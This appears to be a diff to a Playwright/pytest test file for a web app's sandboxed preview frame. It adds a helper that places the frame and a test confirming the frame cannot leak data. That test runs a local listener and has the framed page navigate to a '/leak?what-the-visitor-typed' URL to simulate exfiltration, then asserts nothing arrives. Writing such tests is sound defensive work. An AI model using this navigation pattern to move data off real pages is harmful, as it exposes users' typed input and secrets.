@@ -3,7 +3,9 @@
 import base64
 import io
 import json
+import threading
 import zipfile
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
@@ -32,6 +34,19 @@ def host(server, page):
     return page
 
 
+def place_frame(host, path: str, sandbox: str | None) -> None:
+    host.evaluate(
+        """([path, sandbox]) => {
+            const frame = document.createElement('iframe');
+            if (sandbox) frame.setAttribute('sandbox', sandbox);
+            frame.src = path; frame.name = 'hostile';
+            document.body.append(frame);
+        }""",
+        [path, sandbox],
+    )
+    host.wait_for_selector("iframe[name=hostile]")
+
+
 def outcome_of(frame) -> dict:
     frame.wait_for_selector("#outcome", timeout=30_000, state="attached")
     return json.loads(frame.text_content("#outcome"))
@@ -51,20 +66,35 @@ def assert_harmless(outcome: dict) -> None:
 @pytest.mark.parametrize("sandbox", [SANDBOX, None], ids=["the page's frame", "a frame that forgot its sandbox"])
 def test_from_inside_a_frame_it_reaches_nothing(host, server, preview_path, sandbox):
     projects = server.action("project_list").json()["meta"]["count"]
-    host.evaluate(
-        """([path, sandbox]) => {
-            const frame = document.createElement('iframe');
-            if (sandbox) frame.setAttribute('sandbox', sandbox);
-            frame.src = path; frame.name = 'hostile';
-            document.body.append(frame);
-        }""",
-        [preview_path, sandbox],
-    )
-    host.wait_for_function("document.querySelector('iframe[name=hostile]')")
+    place_frame(host, preview_path, sandbox)
     outcome = outcome_of(host.frame(name="hostile"))
     assert_harmless(outcome)
     assert host.url.startswith(server.url) and host.evaluate("localStorage.getItem('provider-key')") == KEY
     assert server.action("project_list").json()["meta"]["count"] == projects
+
+
+def test_its_frame_cannot_carry_data_to_another_place(host, preview_path):
+    seen = []
+
+    class Listener(BaseHTTPRequestHandler):
+        def do_GET(self):
+            seen.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *said):
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as elsewhere:
+        threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
+        place_frame(host, preview_path, SANDBOX)
+        frame = host.frame(name="hostile")
+        outcome_of(frame)
+        address = f"http://127.0.0.1:{elsewhere.server_port}/leak?what-the-visitor-typed"
+        frame.evaluate(f"void (location.href = {address!r})")
+        host.wait_for_timeout(1500)
+        elsewhere.shutdown()
+    assert seen == []
 
 
 def test_in_a_tab_of_its_own_it_reaches_nothing(host, server, preview_path):
